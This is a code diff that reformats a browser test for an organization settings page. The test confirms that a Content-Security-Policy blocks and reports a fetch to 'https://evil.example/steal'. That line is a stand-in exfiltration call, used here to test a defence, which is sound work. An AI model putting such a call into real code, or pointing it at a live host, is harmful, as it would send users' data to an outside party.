@@ -142,7 +142,12 @@ describe("organization settings page", () => {
 
   it("would see a Content-Security-Policy violation: a connection to a host outside the policy is blocked and reported", async () => {
     const frame = await openSettings(h);
-    const outcome = await frame.evaluate(() => fetch("https://evil.example/steal").then(() => "sent", () => "blocked"));
+    const outcome = await frame.evaluate(() =>
+      fetch("https://evil.example/steal").then(
+        () => "sent",
+        () => "blocked",
+      ),
+    );
     expect(outcome).toBe("blocked");
     await expect.poll(() => h.cspViolations.filter((v) => v.blockedUri.startsWith("https://evil.example")).length).toBe(1);
     const violation = h.cspViolations.find((v) => v.blockedUri.startsWith("https://evil.example"))!;
